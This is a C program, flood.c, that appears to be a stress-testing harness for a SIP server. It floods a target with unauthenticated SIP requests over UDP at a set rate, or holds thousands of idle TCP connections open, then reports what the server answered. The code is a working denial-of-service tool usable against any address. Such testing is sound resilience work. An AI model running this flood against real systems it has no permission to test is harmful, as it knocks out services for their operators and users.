/*
 * flood.c - what an attacker with one machine does to a server, measured from outside.
 *
 *	flood METHOD ADDRESS PORT RATE SECONDS [SOURCE]    requests without credentials by UDP, RATE a second
 *	flood connect ADDRESS PORT COUNT SECONDS [SOURCE]  COUNT connections that say nothing; closed ones are made anew
 *a second later
 *
 * Prints what was sent, what was answered (requests, bytes) and what stood (connections).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { CONNS = 5000 };

static uint64_t now_us(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
}

static struct sockaddr_in addr_of(const char *ip, unsigned port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};

	if (inet_pton(AF_INET, ip, &a.sin_addr) != 1) {
		fprintf(stderr, "flood: %s is no address\n", ip);
		exit(2);
	}
	return a;
}

static int open_socket(int type, const struct sockaddr_in *src)
{
	int fd = socket(AF_INET, type, 0);

	if (fd < 0 || fcntl(fd, F_SETFL, O_NONBLOCK) || bind(fd, (const struct sockaddr *)src, sizeof(*src))) {
		fprintf(stderr, "flood: %s\n", strerror(errno));
		exit(2);
	}
	return fd;
}

/* ------------------------------------------------------------------ requests */

static void requests(const char *method, const struct sockaddr_in *dst, const struct sockaddr_in *src, unsigned rate,
		     unsigned seconds)
{
	uint64_t start = now_us(), sent = 0, bytes_out = 0, answers = 0, bytes_in = 0;
	int fd = open_socket(SOCK_DGRAM, src);
	char m[800], in[4096], ip[32];
	bool reg = !strcmp(method, "REGISTER");

	(void)inet_ntop(AF_INET, &dst->sin_addr, ip, sizeof(ip));
	while (now_us() - start < seconds * 1000000ULL) {
		uint64_t due = (now_us() - start) * rate / 1000000;
		ssize_t n;

		for (; sent < due; sent++) {
			int l = snprintf(m, sizeof(m),
					 "%s sip:%s%s SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.0.66:5060;rport;"
					 "branch=z9hG4bK-flood-%llu\r\nMax-Forwards: 70\r\n"
					 "From: <sip:100@%s>;tag=%llu\r\nTo: <sip:100@%s>\r\nCall-ID: flood-%llu\r\n"
					 "CSeq: 1 %s\r\nContact: <sip:100@127.0.0.66>\r\nContent-Length: 0\r\n\r\n",
					 method, reg ? "" : "100@", ip, (unsigned long long)sent, ip,
					 (unsigned long long)sent, ip, (unsigned long long)sent, method);

			n = sendto(fd, m, (size_t)l, 0, (const struct sockaddr *)dst, sizeof(*dst));
			bytes_out += n > 0 ? (uint64_t)n : 0;
		}
		while ((n = recv(fd, in, sizeof(in), 0)) > 0) {
			answers++;
			bytes_in += (uint64_t)n;
		}
		struct pollfd p = {.fd = fd, .events = POLLIN};
		(void)poll(&p, 1, 1);
	}
	close(fd);
	printf("sent=%llu bytes=%llu answers=%llu answer_bytes=%llu\n", (unsigned long long)sent,
	       (unsigned long long)bytes_out, (unsigned long long)answers, (unsigned long long)bytes_in);
}

/* ------------------------------------------------------------------ connections */

static void connections(const struct sockaddr_in *dst, const struct sockaddr_in *src, unsigned count, unsigned seconds)
{
	static int fd[CONNS];
	uint64_t start = now_us(), made = 0, closed = 0;
	unsigned standing = 0;
	char in[512];
	struct rlimit rl = {CONNS + 64, CONNS + 64};

	(void)setrlimit(RLIMIT_NOFILE, &rl);
	count = count < CONNS ? count : CONNS;
	for (unsigned i = 0; i < count; i++)
		fd[i] = -1;
	while (now_us() - start < seconds * 1000000ULL) {
		standing = 0;
		for (unsigned i = 0; i < count; i++) {
			if (fd[i] < 0) {
				fd[i] = open_socket(SOCK_STREAM, src);
				(void)!connect(fd[i], (const struct sockaddr *)dst, sizeof(*dst));
				made++;
			}
			ssize_t n = recv(fd[i], in, sizeof(in), 0);
			if (n == 0 || (n < 0 && errno != EAGAIN && errno != ENOTCONN)) {
				close(fd[i]);
				fd[i] = -1;
				closed++;
			} else {
				standing++;
			}
		}
		(void)poll(NULL, 0, 1000);
	}
	printf("made=%llu closed=%llu standing=%u\n", (unsigned long long)made, (unsigned long long)closed, standing);
}

int main(int argc, char **argv)
{
	struct sockaddr_in dst, src;
	unsigned n, seconds;

	if (argc < 6) {
		fprintf(stderr, "usage: flood METHOD|connect ADDRESS PORT RATE|COUNT SECONDS [SOURCE]\n");
		return 2;
	}
	dst = addr_of(argv[2], (unsigned)atoi(argv[3]));
	src = addr_of(argc > 6 ? argv[6] : "0.0.0.0", 0);
	n = (unsigned)atoi(argv[4]);
	seconds = (unsigned)atoi(argv[5]);
	if (!strcmp(argv[1], "connect"))
		connections(&dst, &src, n, seconds);
	else
		requests(argv[1], &dst, &src, n, seconds);
	return 0;
}
